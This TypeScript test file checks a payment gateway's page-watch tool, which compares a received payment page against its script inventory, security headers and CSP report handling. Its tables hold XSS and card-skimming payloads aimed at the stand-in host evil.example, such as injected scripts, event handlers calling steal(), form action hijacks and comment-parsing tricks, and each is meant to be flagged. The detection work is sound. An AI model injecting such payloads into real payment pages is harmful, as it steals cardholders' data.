/**
 * The inventory of the scripts on the gateway's pages, and the differences that are found in a
 * received page.
 */
import assert from "node:assert/strict";
import { globSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import * as inline from "../cardholder/scripts.ts";
import { plainTheme } from "../design.ts";
import { listScripts, makeAssets } from "./assets.ts";
import { checkPage, type Expected, type ReceivedPage } from "./page-watch.ts";
import type { PaymentView } from "./payment-page.ts";
import { plainView, servePage } from "./testing.ts";

const assets = makeAssets();
const evil = "https://evil.example";

test("the inventory has every script of the pages, each with a reason", () => {
  const pages = join(import.meta.dirname, "..");
  const scripts = listScripts();

  const names = ["pay.js", "embed.js", "sdk.js", "field.js", ...Object.keys(inline)];
  assert.deepEqual(scripts.map(({ name }) => name).toSorted(), names.toSorted());
  for (const { name, digest, reason } of scripts) {
    assert.match(digest, /^sha(256|384)-[\w+/]{43,}=*$/, name);
    assert.ok(reason.length > 15, name);
  }
  const makers = globSync("**/*.ts", { cwd: pages }).filter((file) =>
    /\bmakeScript\(/.test(readFileSync(join(pages, file), "utf8").replace(/function .*/g, "")),
  );
  assert.deepEqual(makers, ["cardholder/scripts.ts"]);
});

test("in a rehearsal the page says so, and has no fault", async (t) => {
  const theme = { ...plainTheme, isRehearsal: true };
  const page = await receive(t, "/pay/t0ken", plainView, "de", theme);

  assert.match(page.body, /<body>\n<p class="warning" role="note">Probebetrieb: Es fließt kein/);
  assert.deepEqual(faultsOf(page), []);
  assert.doesNotMatch((await receive(t)).body, /class="warning"/);
});

const method = "https://wallet.example/pay?v=1&c=2";
const embedOrigins = ["https://shop.example", "https://www.shop.example"];
const expected: Expected = { embedOrigins: [], walletMethods: [], otherHeaders: [] };

/** A page that has every element. */
const full: PaymentView = {
  ...plainView,
  kind: "preauth",
  framedBy: embedOrigins,
  shop: { name: "<Sun> & 'Co'", colour: "#ffd400", logo: "data:image/png;base64,iVBORw0KGgo=" },
  wanted: [
    ...(["firstName", "lastName", "email", "phone"] as const),
    ...(["address", "zipCode", "city", "country", "state"] as const),
  ],
  refusal: "insufficient_funds",
  triesLeft: 2,
  challenge: "1.a-b_c",
  linkPage: "p4ge",
  refilled: { faults: new Map(), values: new Map([["country", "US"]]) },
  wallets: [{ wallet: "walletb", type: "walletb_encrypted", method, data: { a: "<b>" } }],
};

test("a page as the gateway sends it has no fault, at both addresses and with everything", async (t) => {
  const found = await receive(t, "/pay/t0ken", full);
  const faulty: PaymentView = {
    ...full,
    refilled: { faults: new Map([["email", "wrong"]]), values: new Map() },
  };
  const secure = { ...(await receive(t)), url: new URL("https://pay.example/pay/t0ken") };
  const hsts = { "strict-transport-security": "max-age=31536000; includeSubDomains" };
  const allowed = { ...expected, embedOrigins: embedOrigins.toReversed(), walletMethods: [method] };

  assert.deepEqual(faultsOf(await receive(t)), []);
  assert.deepEqual(faultsOf(await receive(t, "/pay/t0ken/")), []);
  assert.deepEqual(faultsOf(change(secure, hsts)), []);
  assert.deepEqual(faultsOf(found, allowed), []);
  assert.deepEqual(faultsOf(await receive(t, "/pay/t0ken/", full, "de"), allowed), []);
  assert.deepEqual(faultsOf(await receive(t, "/pay/t0ken", faulty), allowed), []);
  assert.deepEqual(faultsOf(await receive(t, "/pay/t0ken", { ...full, wallets: [] }), allowed), []);
});

test("what the operator has to expect is a fault without that", async (t) => {
  const framed = faultsOf(await receive(t, "/pay/t0ken", { ...plainView, framedBy: embedOrigins }));
  const offering = faultsOf(await receive(t, "/pay/t0ken", { ...full, framedBy: [] }));
  const proxied = change(await receive(t), { "x-served-by": "edge7" });

  assert.match(framed.join("\n"), /^The directive frame-ancestors .*\nThe page has <form .*$/);
  assert.match(offering.join("\n"), /^The directive connect-src .*\nThe page has <button .*$/);
  assert.match(String(faultsOf(proxied)), /^The gateway does not send the header x-served-by, /);
  assert.deepEqual(faultsOf(proxied, { ...expected, otherHeaders: ["x-served-by"] }), []);
});

test("markup that changes nothing is none, such as other quotes and a plain comment", async (t) => {
  const page = await receive(t);
  const body = page.body
    .replace('<form id="pay" method="post"', "<FORM\tid=pay\nmethod = 'post'/")
    .replace("</form>", "</form ><!-- by the edge - 7 -->");

  assert.notEqual(body, page.body);
  assert.deepEqual(faultsOf({ ...page, body }), []);
});

test("each header that was changed on the way to the browser is a fault", async (t) => {
  const page = await receive(t);
  const secure = { ...page, url: new URL("https://pay.example/pay/t0ken") };
  const policy = String(page.headers.get("content-security-policy"));
  const withPolicy = (from: string, to: string) =>
    change(page, { "content-security-policy": policy.replace(from, to) });

  // biome-ignore format: a table
  const changed: readonly (readonly [ReceivedPage, RegExp])[] = [
    [withPolicy("script-src 'self'", `script-src 'self' ${evil}`),    /^The directive script-src of the policy is 'self' https:\/\/evil/],
    [withPolicy("base-uri", "script-src-elem *; base-uri"),           /^The directive script-src-elem of the policy is \*/],
    [withPolicy("base-uri", `connect-src 'self' ${evil}; base-uri`),  /^The directive connect-src/],
    [withPolicy("base-uri", "sandbox; base-uri"),                     /^The directive sandbox of the policy is \./],
    [withPolicy("frame-ancestors 'none'", "frame-ancestors *"),       /^The directive frame-ancestors/],
    [withPolicy("frame-ancestors 'none'", `frame-ancestors ${evil}`), /^The directive frame-ancestors/],
    [withPolicy("report-uri reports", `report-uri ${evil}`),          /^The directive report-uri/],
    [withPolicy("report-uri reports", "report-uri ../reports"),       /^The directive report-uri/],
    [withPolicy("script-src 'self'", "script-src *; script-src 'self'"), /^The directive script-src of the policy is \*/],
    [withPolicy("script-src 'self'", "Script-Src *; script-src 'self'"), /^The directive script-src of the policy is \*/],
    [withPolicy("base-uri", "script-src 'self'; base-uri"),           /^The policy has a directive twice/],
    [change(page, { "content-security-policy": `${policy}, ${policy}` }), /^The page has several policies/],
    [change(page, { "content-security-policy": null }),               /^The directive default-src of the policy is missing/],
    [change(page, { "content-security-policy-report-only": `report-uri ${evil}` }), /^The gateway does not send the header content-security-policy-report-only/],
    [change(page, { "refresh": `0;url=${evil}` }),                    /^The gateway does not send the header refresh, which is 0;url=https/],
    [change(page, { "link": `<${evil}/a.css>; rel=stylesheet` }),     /^The header link is <https:\/\/evil/],
    [change(page, { "link": `<pay.js>; rel=modulepreload` }),         /^The header link is <pay\.js/],
    [change(page, { "referrer-policy": "unsafe-url" }),               /^The header referrer-policy is unsafe-url/],
    [change(page, { "reporting-endpoints": null }),                   /^The header reporting-endpoints is missing/],
    [secure,                                                          /^The header strict-transport-security is missing/],
    [change(secure, { "strict-transport-security": "max-age=0" }),    /^The header strict-transport-security is max-age=0/],
    [change(secure, { "strict-transport-security": "max-age=86400; preload" }), /^The header strict-transport-security is max-age=86400/],
    [change(secure, { "strict-transport-security": "max-age=0, max-age=31536000" }), /^The header strict-transport-security is max-age=0, /],
  ];
  for (const [received, fault] of changed) {
    const [first = "none"] = faultsOf(received);
    assert.match(first, fault);
  }
});

const own = assets.script;

// biome-ignore format: a table
const added: readonly (readonly [markup: string, RegExp])[] = [
  [`<script src="${evil}"></script>`,                         /^The page has <script src="https:\/\/evil.*not in the inventory/],
  [`<script src=${evil}></script>`,                           /^The page has <script src=https/],
  [`<script/src='${evil}'/></script>`,                        /^The page has <script\/src/],
  ["<SCRIPT>steal()</SCRIPT>",                                /^The page has <SCRIPT>steal/],
  ['<script type="importmap">{}</script>',                    /^The page has <script type="importmap">\{\}/],
  [`<script src="${own.name}" src=${evil} integrity="${own.integrity}" async></script>`, /^The page has <script src="pay/],
  [`<script src="embed.js" integrity="${assets.find("embed.js")?.integrity}"></script>`, /^The page has <script src="embed/],
  ["<svg/onload=steal()>",                                    /^The page has <svg\/onload/],
  ["<svg/onload=steal()",                                     /^The page has <svg\/onload/],
  ['<p class="&quot;>" onfocus=steal()>',                     /^The page has <p class="&quot;>" onfocus/],
  [`<iframe src="${evil}"></iframe>`,                         /^The page has <iframe/],
  ["<iframe srcdoc='<p>'></iframe>",                          /^The page has <iframe srcdoc/],
  [`<object data=${evil}></object>`,                          /^The page has <object/],
  [`<embed src=${evil}>`,                                     /^The page has <embed/],
  ["<base href=//evil.example>",                              /^The page has <base/],
  [`<meta http-equiv=refresh content=0;url=${evil}>`,         /^The page has <meta http-equiv=refresh/],
  ["<meta name='referrer' content='unsafe-url'>",             /^The page has <meta name='referrer'/],
  [`<input type="image" src="${evil}">`,                      /^The page has <input type="image"/],
  ['<a href="javascript:steal()">',                           /^The page has <a href/],
  [`<img src="${evil}/a.png" alt="">`,                        /^The page has <img/],
  [`<link rel=stylesheet href=${evil}>`,                      /^The page has <link rel=stylesheet/],
  [`<link rel=preload as=script href=${evil}>`,               /^The page has <link rel=preload/],
  [`<link rel=modulepreload href=${evil}>`,                   /^The page has <link rel=modulepreload/],
  ["<style>p { color: red }</style>",                         /^The page has <style>/],
  [`<!--><script src=${evil}></script>-->`,                   /^The page has <!-->/],
  [`<!-- --!><script src=${evil}></script>-->`,               /^The page has <!-- --!>/],
  [`<noscript><!--</noscript><script src=${evil}></script>-->`, /^The page has <!--<\/noscript>/],
  ["<![CDATA[<script>]]>",                                    /^The page has <!\[CDATA/],
  ["<blink>",                                                 /^The page has <blink>/],
  ["</blink>",                                                /^The page has <\/blink>/],
];

// biome-ignore format: a table
const replaced: readonly (readonly [from: string | RegExp, to: string, RegExp])[] = [
  ["<script src=", `<script src="${evil}" src=`,              /^The page has <script src="https:\/\/evil/],
  ["</script>", "steal()</script>",                           /^The page has <script .*>steal\(\)/],
  ["<main", '<main onclick="steal()"',                        /^The page has <main onclick/],
  ["<main", "<main\nONCLICK\n=\n'steal()'",                   /^The page has <main ONCLICK/],
  ['<main class="pay"', '<main class="pay"onclick=steal()',   /^The page has <main class="pay"onclick/],
  ["1801;url=t0ken", `1801;url=${evil}`,                      /^The page has <meta http-equiv="refresh"/],
  ["1801;url=t0ken", "1801;url=&#104;ttps://evil.example",    /^The page has <meta http-equiv="refresh"/],
  ['<form id="pay"', `<form id="pay" action="${evil}"`,       /^The page has <form id="pay" action/],
  ['<form id="pay"', `<form id="pay" data-embed="${evil}"`,   /^The page has <form id="pay" data-embed/],
  ['method="post"', 'method="get"',                           /^The page has <form id="pay" method="get"/],
  ['<button type="submit"', `<button type="submit" formaction=${evil}`, /^The page has <button type="submit" formaction/],
  ['<use href="#mark-none"', '<use href="&#106;avascript:steal()"', /^The page has <use href="&#106;/],
  ['<use href="#mark-none"', `<use href="${evil}#mark-none"`, /^The page has <use href="https/],
  ['fill="none"', `fill="url(${evil})"`,                      /^The page has <\w+ [^>]*fill="url/],
  ['integrity="sha384-', 'integrity="sha384-x',               /^The page has <link rel="stylesheet"/],
  ["<main", '<main style="display:none"',                     /^The page has <main style/],
  ["</title>", '<p class="</title><script>steal()</script>">', /^The page has <p class="<\/title>/],
  [/<script[^>]*><\/script>/, "",                             /^The page does not load pay\./],
  ['<form id="pay"', "<form",                                 /^The answer, of status 200, is no payment page/],
];

test("each element that was added or changed on the way to the browser is a fault", async (t) => {
  const page = await receive(t);
  const { body } = page;
  const bodies: readonly (readonly [string, RegExp])[] = [
    ...added.map(([markup, fault]) => {
      return [body.replace("</form>", `</form>${markup}`), fault] as const;
    }),
    ...replaced.map(([from, to, fault]) => [body.replace(from, to), fault] as const),
    [`${body}<img src="`, /^The page has <img src="/],
    [`\uFFFD${body}`, /^The answer, of status 200, is no payment page/],
  ];

  for (const [changed, fault] of bodies) {
    const [first = "none"] = faultsOf({ ...page, body: changed });
    assert.match(first, fault);
  }
  const [elsewhere = "none"] = faultsOf({ ...page, status: 303, body: "" });
  assert.match(elsewhere, /^The answer, of status 303, is no payment page/);
});

test("browsers' reports of all kinds are read, without the page's address, and few of a request", async (t) => {
  const { server, reported } = servePage(t);
  const send = (type: string, content: unknown) => {
    const payload = typeof content === "string" ? content : JSON.stringify(content);
    const headers = { "content-type": `application/${type}` };
    return server.inject({ method: "POST", url: "/pay/reports", headers, payload });
  };
  const modern = (blockedURL: unknown, type = "csp-violation", directive = "script-src-elem") => ({
    type,
    url: "https://pay.example/pay/t0ken",
    body: { effectiveDirective: directive, blockedURL },
  });
  const old = { "effective-directive": "script-src", "blocked-uri": "inline" };
  const older = { "violated-directive": "img-src data:", "blocked-uri": `${evil}/t0ken` };
  const useless = ["", "[", "null", "[null, 7]", '"text"', "x".repeat(70_000)];
  const strange = { "csp-report": { ...old, "effective-directive": { toString: null } } };

  const { statusCode } = await send("reports+json", [modern(`${evil}/a.js?t0ken`)]);
  await send("csp-report", { "csp-report": old });
  await send("csp-report", { "csp-report": older });
  await send("reports+json", modern(evil));
  await send("reports+json", [modern(evil, "deprecation")]);
  await send("reports+json", [modern("\u001b[2J not a word")]);
  await send("reports+json", [modern({ toString: null }, "csp-violation", "made-up-src")]);
  for (const each of [...useless, strange]) {
    assert.equal((await send("csp-report", each)).statusCode, 204);
  }

  assert.equal(statusCode, 204);
  const read = [
    ...[`script-src-elem ${evil}`, "script-src inline", `img-src ${evil}`],
    ...[`script-src-elem ${evil}`, "script-src-elem unknown", "other unknown"],
  ];
  assert.deepEqual(reported, read);
  const many = Array.from({ length: 50 }, () => modern(evil));
  await send("reports+json", many);
  assert.equal(reported.length, read.length + 10);
});

async function receive(
  t: Parameters<typeof servePage>[0],
  path = "/pay/t0ken",
  view: PaymentView = plainView,
  language = "en",
  theme = plainTheme,
): Promise<ReceivedPage> {
  const asked = { url: path, headers: { "accept-language": language } };
  const { server } = servePage(t, view, { goTo: "t0ken" }, makeAssets(), theme);
  const { statusCode, headers, body } = await server.inject(asked);
  const received = new Headers(
    Object.entries(headers).map(([name, value]) => [name, String(value)]),
  );
  const url = new URL(path, "http://pay.example");
  return { url, status: statusCode, headers: received, body };
}

function faultsOf(page: ReceivedPage, allowed = expected): readonly string[] {
  return checkPage(page, allowed, assets).faults;
}

/** Changes headers of a received page. A value of null removes the header. */
function change(page: ReceivedPage, changes: Readonly<Record<string, string | null>>) {
  const headers = new Headers(page.headers);
  for (const [name, value] of Object.entries(changes)) {
    if (value === null) headers.delete(name);
    else headers.set(name, value);
  }
  return { ...page, headers };
}
